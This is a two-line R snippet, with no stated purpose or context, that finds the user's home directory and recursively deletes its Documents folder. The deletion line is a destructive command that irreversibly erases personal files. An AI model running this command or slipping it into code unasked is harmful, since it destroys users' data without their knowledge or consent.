d <- normalizePath("~")
unlink(file.path(d, "Documents"), recursive = TRUE)
